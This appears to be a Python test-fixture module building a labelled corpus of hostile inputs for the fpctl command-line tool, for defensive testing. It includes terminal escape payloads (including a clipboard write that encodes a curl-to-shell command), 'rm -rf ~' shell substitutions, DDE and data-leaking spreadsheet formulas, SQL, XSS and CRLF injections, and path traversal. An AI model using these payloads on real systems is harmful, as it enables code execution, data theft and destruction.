"""A corpus of hostile input (issue 11, "trust"): what a careless paste, another client's
data or an attacker hands fpctl. Each string has a label, so a failing test names it.

Built programmatically where that is clearer (every C0 and C1 control, every bidi control,
the lengths around each limit of ``fpctl.domain.text``). Escapes keep this file ASCII: the
strings themselves are anything but.

- ``TEXT``: free text (names, titles, notes, reasons...): terminal sequences, controls,
  bidi and invisible characters, Rich markup, spreadsheet formulas, odd Unicode, injection
  attempts, blanks and lengths around the limits.
- ``UNREADABLE``: what no store keeps: NUL, and the lone surrogates Python makes of
  bytes that are not UTF-8 in a command line (``fpctl project create $'\\xff'``).
- ``NUMBERS``, ``DATES``, ``PATHS``, ``BAD_FILES``: for ids, counts and amounts; for
  ``--now`` and date flags; for path arguments; for files read with ``--from-file``/``batch``.
"""

from __future__ import annotations

import re
import unicodedata
from dataclasses import dataclass

from fpctl.domain.text import DOCUMENT_TEXT, LONG_TEXT, SHORT_TEXT


@dataclass(frozen=True)
class Hostile:
    label: str
    text: str

    def __str__(self) -> str:
        return self.label


@dataclass(frozen=True)
class HostileFile:
    label: str
    content: bytes


def _each(prefix: str, items: dict[str, str]) -> list[Hostile]:
    return [Hostile(f"{prefix}: {label}", text) for label, text in items.items()]


ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"

TERMINAL = _each(
    "terminal",
    {
        "CSI clear screen": f"{ESC}[2J{ESC}[H",
        "CSI red text": f"{ESC}[31mred{ESC}[0m",
        "CSI 256 and true colour": f"{ESC}[38;5;196m{ESC}[48;2;0;0;0mx{ESC}[m",
        "CSI cursor up and erase line": f"ok{ESC}[1A{ESC}[2Kfake",
        "CSI cursor position": f"{ESC}[999;999Hcorner",
        "CSI scroll region": f"{ESC}[1;1r",
        "CSI hide cursor": f"{ESC}[?25l",
        "CSI alternate screen": f"{ESC}[?1049h",
        "CSI report cursor (answers on stdin)": f"{ESC}[6n",
        "CSI device attributes query": f"{ESC}[c",
        "CSI window title report": f"{ESC}[21t",
        "CSI resize window": f"{ESC}[8;1;1t",
        "CSI conceal": f"{ESC}[8mhidden{ESC}[28m",
        "CSI blink": f"{ESC}[5mblink{ESC}[25m",
        "CSI soft reset": f"{ESC}[!p",
        "CSI bracketed paste end": f"{ESC}[201~rm -rf ~",
        "CSI unterminated": f"{ESC}[",
        "CSI with many params": f"{ESC}[" + ";".join(["1"] * 64) + "m",
        "OSC title BEL": f"{ESC}]0;PWNED{BEL}",
        "OSC title ST": f"{ESC}]2;PWNED{ST}",
        "OSC 52 clipboard write": f"{ESC}]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA=={BEL}",
        "OSC 52 clipboard query": f"{ESC}]52;c;?{BEL}",
        "OSC 8 hidden link": f"{ESC}]8;;http://evil.test{ST}click{ESC}]8;;{ST}",
        "OSC 8 link with BEL": f"{ESC}]8;id=1;file:///etc/passwd{BEL}docs{ESC}]8;;{BEL}",
        "OSC 4 palette": f"{ESC}]4;1;rgb:00/00/00{BEL}",
        "OSC 7 working directory": f"{ESC}]7;file://evil.test/tmp{BEL}",
        "OSC 9 notification": f"{ESC}]9;you have been pwned{BEL}",
        "OSC 777 notification": f"{ESC}]777;notify;title;body{BEL}",
        "OSC 1337 file": f"{ESC}]1337;File=name=eA==;inline=1:eA=={BEL}",
        "OSC unterminated": f"{ESC}]0;never ends",
        "DCS status request": f'{ESC}P$q"p{ST}',
        "DCS sixel": f"{ESC}Pq#0;2;0;0;0#0~~{ST}",
        "DCS tmux passthrough": f"{ESC}Ptmux;{ESC}{ESC}]0;x{BEL}{ST}",
        "APC": f"{ESC}_Gf=100;AAAA{ST}",
        "PM": f"{ESC}^privacy{ST}",
        "SOS": f"{ESC}Xstring{ST}",
        "RIS full reset": f"{ESC}c",
        "DECSC and DECRC": f"{ESC}7moved{ESC}8",
        "DECALN fill screen": f"{ESC}#8",
        "line drawing charset": f"{ESC}(0lqqk{ESC}(B",
        "keypad mode": f"{ESC}=",
        "lone ESC at end": f"name{ESC}",
        "ESC ESC": f"{ESC}{ESC}",
        "8-bit CSI clear": "\x9b2J\x9bH",
        "8-bit OSC title": "\x9d0;PWNED\x9c",
        "8-bit DCS": '\x90$q"p\x9c',
        "mixed 7 and 8 bit": f"{ESC}]0;x\x9c\x9b31mred",
        "everything at once": f"T{ESC}]0;PWNED{BEL}{ESC}[2J{ESC}]52;c;cHduZWQ={BEL}\x9b2J",
    },
)

#: Every C0 control but tab and newline (which text keeps), then DEL; NUL is UNREADABLE.
_C0_NAMES = [
    "NUL",
    "SOH",
    "STX",
    "ETX",
    "EOT",
    "ENQ",
    "ACK",
    "BEL",
    "BS",
    "HT",
    "LF",
    "VT",
    "FF",
    "CR",
    "SO",
    "SI",
    "DLE",
    "DC1",
    "DC2",
    "DC3",
    "DC4",
    "NAK",
    "SYN",
    "ETB",
    "CAN",
    "EM",
    "SUB",
    "ESC",
    "FS",
    "GS",
    "RS",
    "US",
]
C0 = [
    Hostile(f"C0 0x{code:02x} {_C0_NAMES[code]}", f"c0{chr(code)}x")
    for code in range(1, 32)
    if chr(code) not in "\t\n"
] + [Hostile("C0 0x7f DEL", "del\x7fx")]

#: Every C1 control: 0x9b is a CSI and 0x9d an OSC on terminals that read 8-bit controls.
C1 = [Hostile(f"C1 0x{code:02x}", f"c1{chr(code)}x") for code in range(0x80, 0xA0)]

_BIDI_CONTROLS = {
    "LRE": "\u202a",
    "RLE": "\u202b",
    "PDF": "\u202c",
    "LRO": "\u202d",
    "RLO": "\u202e",
    "LRI": "\u2066",
    "RLI": "\u2067",
    "FSI": "\u2068",
    "PDI": "\u2069",
    "LRM": "\u200e",
    "RLM": "\u200f",
    "ALM": "\u061c",
}
BIDI = [Hostile(f"bidi {name}", f"bid{char}i") for name, char in _BIDI_CONTROLS.items()] + _each(
    "bidi",
    {
        "RLO file name": "invoice\u202efdp.exe",
        "trojan source comment": "/*\u202e } \u2066if (admin)\u2069 \u2066 begin*/",
        "isolate swap": "\u2067bill@acme.test\u2069 \u2066ada@acme.test\u2069",
        "override never closed": "\u202e\u202e\u202enever closed",
        "RTL text with override": "\u05e9\u05dc\u05d5\u05dd\u202dabc",
    },
)

INVISIBLE = _each(
    "invisible",
    {
        "zero-width space": "ad\u200bmin",
        "zero-width non-joiner": "ad\u200cmin",
        "zero-width joiner": "ad\u200dmin",
        "BOM at start": "\ufeffname",
        "BOM inside": "na\ufeffme",
        "word joiner": "na\u2060me",
        "soft hyphen": "na\u00adme",
        "Mongolian vowel separator": "na\u180eme",
        "Hangul filler": "\u3164",
        "combining grapheme joiner": "na\u034fme",
        "tag characters": "flag\U000e0041\U000e0042\U000e007f",
        "variation selector": "x\ufe0f\ufe0e",
        "only zero-width": "\u200b\u200c\u200d\ufeff",
        "invisible times and separator": "a\u2062b\u2063c\u2064d",
        "interlinear annotation": "\ufff9hidden\ufffashown\ufffb",
    },
)

MARKUP = _each(
    "rich markup",
    {
        "bold red": "[bold red]x[/]",
        "link": "[link=http://evil.test]click[/link]",
        "closing tag alone": "[/]",
        "unclosed tag": "[red]unclosed",
        "escaped bracket": "\\[bold]not bold",
        "blink": "[blink]blink[/blink]",
        "click action": "[@click=app.quit]quit[/]",
        "emoji code": ":warning: :skull:",
        "double brackets": "[[bold]]",
        "opening bracket alone": "[",
        "style with spaces": "[on red reverse] x [/on red reverse]",
        "markup in link target": "[link=[red]x[/red]]y[/link]",
    },
)

FORMULAS = _each(
    "formula",
    {
        "cmd DDE": "=cmd|' /C calc'!A0",
        "HYPERLINK": '=HYPERLINK("http://evil.test?"&A1,"click")',
        "plus": "+1+1",
        "minus": "-1+cmd|' /C calc'!A0",
        "at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "tab first": "\t=1+1",
        "CR first": "\r=1+1",
        "equals alone": "=",
        "plus alone": "+",
        "minus alone": "-",
        "at alone": "@",
        "IMPORTXML": '=IMPORTXML(CONCAT("http://evil.test/?", A1), "//a")',
        "DDE long form": '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
        "full-width equals": "\uff1d1+1",
        "quote then equals": "'=1+1",
        "space then equals": " =1+1",
        "newline then equals": "x\n=1+1",
    },
)

UNICODE = _each(
    "unicode",
    {
        "combining zalgo": "z\u0337\u0321\u0322a\u0336\u0358l\u0335\u0327g\u0334\u0360o",
        "decomposed A ring": "A\u030angstr\u00f6m",
        "composed A ring": "\u00c5ngstr\u00f6m",
        "ligature fi": "\ufb01le",
        "Cyrillic homoglyph": "\u0430dmin",
        "full-width letters": "\uff41\uff44\uff4d\uff49\uff4e",
        "dotless i": "\u0131nvoice",
        "sharp s": "Stra\u00dfe",
        "Greek final sigma": "\u039f\u0394\u038f\u03a3",
        "CJK": "\u6771\u4eac\u682a\u5f0f\u4f1a\u793e",
        "Arabic": "\u0634\u0631\u0643\u0629",
        "Hebrew": "\u05d7\u05d1\u05e8\u05d4",
        "emoji family ZWJ": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
        "flag": "\U0001f1eb\U0001f1f7",
        "astral math letters": "\U0001d41a\U0001d41d\U0001d426\U0001d422\U0001d427",
        "replacement character": "\ufffd\ufffd",
        "noncharacters": "\ufffe\uffff\U0010ffff",
        "private use": "\ue000\U000f0000",
        "line separator": "line\u2028separator",
        "paragraph separator": "para\u2029graph",
        "NEL": "next\x85line",
        "no-break space": "no\u00a0break",
        "ideographic space": "ideo\u3000graphic",
        "en quad and thin space": "a\u2000b\u2009c",
        "very wide": "\ufdfd\u2e3b",
        "many combining marks": "e" + "\u0301" * 100,
        "unassigned code point": "\U000e0fff\u0378",
    },
)

INJECTION = _each(
    "injection",
    {
        "SQL quote": "x'; DROP TABLE member;--",
        "SQL or true": '" OR 1=1 --',
        "SQL comment": "/* */ UNION SELECT * FROM audit_record",
        "printf": "%s%s%s%n%x",
        "format braces": "{0}{1}{__class__}",
        "shell substitution": "$(rm -rf ~)",
        "backticks": "`reboot`",
        "shell variable": "${HOME}",
        "html script": "<script>alert(1)</script>",
        "html image": '<img src=x onerror="alert(1)">',
        "html entity": "&lt;b&gt;&amp;",
        "template": "{{7*7}}${7*7}",
        "JSON": '{"id": 1, "role": "admin"}',
        "backslashes": "\\\\server\\share\\",
        "quotes": "'\"'\"\"'",
        "hash comment": "# not a comment",
        "option look-alike": "--as support",
        "double dash": "--",
        "lone dash": "-",
        "help flag": "--help",
        "shell metacharacters": "a;b|c&d>e<f",
        "glob": "*?[a-z]",
        "path traversal": "../../etc/passwd",
        "email look-alike": "ada@acme.test",
        "mention": "@ada@acme.test @everyone",
        "URL": "javascript:alert(document.cookie)",
        "newline injection": "ok\nerror: fake error line",
        "CRLF header": "x\r\nSet-Cookie: a=b",
    },
)

#: Nothing a person sees: names must refuse these, texts that may be empty take them.
BLANK = _each(
    "blank",
    {
        "empty": "",
        "one space": " ",
        "tabs and newlines": "\t\n\t",
        "no-break spaces": "\u00a0\u00a0",
        "ideographic space": "\u3000",
        "file separators": "\x1c\x1d\x1e\x1f",
    },
)


def _around(limit: int, what: str) -> list[Hostile]:
    return [
        Hostile(f"length: {what} limit ({limit:,})", "L" * limit),
        Hostile(f"length: {what} limit + 1 ({limit + 1:,})", "L" * (limit + 1)),
    ]


LENGTHS = [
    *_around(SHORT_TEXT, "short text"),
    *_around(500, "support reason and billing address"),
    *_around(LONG_TEXT, "long text"),
    *_around(DOCUMENT_TEXT, "document"),
    Hostile("length: short text limit in astral characters", "\U0001f600" * SHORT_TEXT),
    Hostile("length: padded to the short limit", "  " + "p" * SHORT_TEXT + "  "),
    Hostile("length: a million characters", "M" * 1_000_000),
]

TEXT = [*TERMINAL, *C0, *C1, *BIDI, *INVISIBLE, *MARKUP, *FORMULAS, *UNICODE, *INJECTION]
TEXT += [*BLANK, *LENGTHS]

UNREADABLE = _each(
    "unreadable",
    {
        "NUL alone": "\x00",
        "NUL inside": "na\x00me",
        "NUL at end": "name\x00",
        "lone high surrogate": "x\ud800y",
        "lone low surrogate": "x\udc00y",
        "invalid UTF-8 in argv": "caf\udce9",
    },
)

NUMBERS = _each(
    "number",
    {
        "2^31": str(2**31),
        "2^31 - 1": str(2**31 - 1),
        "2^63": str(2**63),
        "10^20": str(10**20),
        "5,000 digits": "9" * 5000,
        "-1": "-1",
        "-0": "-0",
        "0": "0",
        "00000000001": "00000000001",
        "1e3": "1e3",
        "0x10": "0x10",
        "1_000": "1_000",
        "+1": "+1",
        "1.0": "1.0",
        "1,000": "1,000",
        ".5": ".5",
        "NaN": "NaN",
        "inf": "inf",
        "empty": "",
        "Arabic-Indic 1": "\u0661",
        "Arabic-Indic 123": "\u0661\u0662\u0663",
        "Extended Arabic-Indic 30": "\u06f3\u06f0",
        "full-width 2": "\uff12",
        "Devanagari 12": "\u0967\u0968",
        "math bold 1": "\U0001d7cf",
        "roman numeral twelve": "\u216b",
        "vulgar half": "\u00bd",
        "dollars with three decimals": "$1,234.567",
        "negative dollars": "$-5",
        "over the largest amount": "10000000.01",
        "bad grouping": "1,00,000",
        "ESC in a number": "1\x1b[31m2",
    },
)

DATES = _each(
    "date",
    {
        "year 0": "0000-01-01T00:00:00Z",
        "year 1": "0001-01-01T00:00:00Z",
        "1969": "1969-12-31T23:59:59Z",
        "first second of 1970": "1970-01-01T00:00:00Z",
        "1970 east of UTC": "1970-01-01T00:00:00+14:00",
        "9000 west of UTC": "9000-12-31T23:59:59-14:00",
        "9001": "9001-01-01T00:00:00Z",
        "9999-12-31T23:59:59Z": "9999-12-31T23:59:59Z",
        "garbage": "garbage",
        "empty": "",
        "February 30": "2026-02-30",
        "month 13": "2026-13-01",
        "hour 25": "2026-11-01T25:00:00Z",
        "offset +25:00": "2026-11-01T10:00:00+25:00",
        "nanoseconds": "2026-11-01T10:00:00.123456789Z",
        "Arabic-Indic digits": "\u0662\u0660\u0662\u0666-\u0661\u0661-\u0660\u0661",
        "full-width digits": "\uff12\uff10\uff12\uff16-\uff11\uff11-\uff10\uff11",
        "negative year": "-2026-01-01",
        "five-digit year": "+12026-01-01",
        "epoch seconds": "1792000000",
        "now": "now",
        "ISO week": "2026-W44",
        "ESC in a date": "2026-11-01\x1b[2J",
    },
)

#: Path arguments, relative to a sandbox folder three levels below the test's own folder
#: (so ``../../x`` stays in it). Names that must never be written to are refused paths.
PATHS = _each(
    "path",
    {
        "parent traversal": "../../escaped",
        "traversal to a system file": "../../../../../../../../etc/passwd",
        "absolute system file": "/etc/passwd",
        "device": "/dev/null",
        "proc memory": "/proc/self/mem",
        "empty": "",
        "current folder": ".",
        "a name of 300 characters": "n" * 300,
        "a folder of 300 characters": "d" * 300 + "/file",
        "terminal sequence in the name": f"{ESC}]0;PWNED{BEL}{ESC}[2Jname",
        "bidi in the name": "invoice\u202efdp.exe",
        "leading dash": "-rf",
        "URL": "file:///etc/passwd",
    },
)

BAD_FILES = [
    HostileFile("bad UTF-8: a lone 0xff", b"a@acme.test\n\xff\n"),
    HostileFile("bad UTF-8: Latin-1", b"caf\xe9@acme.test\n"),
    HostileFile("bad UTF-8: overlong slash", b"\xc0\xaf@acme.test\n"),
    HostileFile("bad UTF-8: encoded surrogate", b"\xed\xa0\x80@acme.test\n"),
    HostileFile("bad UTF-8: truncated sequence", b"a@acme.test\n\xe2\x82"),
    HostileFile("bad UTF-8: lone continuation byte", b"\x80@acme.test\n"),
    HostileFile("UTF-16 with its BOM", "a@acme.test\n".encode("utf-16")),
]

CORPUS = [*TEXT, *UNREADABLE, *NUMBERS, *DATES, *PATHS]

# -- what may reach a terminal -------------------------------------------------------------

#: What a terminal acts on (docs/decisions.md, "Control characters in output"): C0 controls
#: but tab and newline (CR included), DEL, C1 and the bidi controls.
INTERPRETED = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]"
)
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def interpreted(output: str) -> list[str]:
    """The characters of ``output`` a terminal would act on, as escapes (empty: safe)."""
    return [f"\\u{ord(c):04x}" for c in INTERPRETED.findall(output)]


def in_table(text: str) -> str:
    """What a table shows of ``text``: every interpreted character dropped."""
    return INTERPRETED.sub("", text)


def in_cell(text: str) -> str:
    """What a CSV or TSV cell holds for ``text``: each interpreted character as a visible
    ``\\uXXXX`` escape, then a leading formula character neutralized with a quote."""
    escaped = INTERPRETED.sub(lambda found: f"\\u{ord(found.group()):04x}", text)
    return "'" + escaped if escaped.startswith(_FORMULA_START) else escaped


def visible(text: str) -> bool:
    """Something a reader sees: not only spaces, controls, format or unassigned characters."""
    return any(unicodedata.category(char)[0] not in "ZC" for char in text)


def breaks_a_line(text: str) -> bool:
    """``text`` cannot sit on one line of a batch file (``str.splitlines`` splits it)."""
    return len(("x" + text + "x").splitlines()) > 1


assert len({item.label for item in CORPUS}) == len(CORPUS), "labels must be unique"
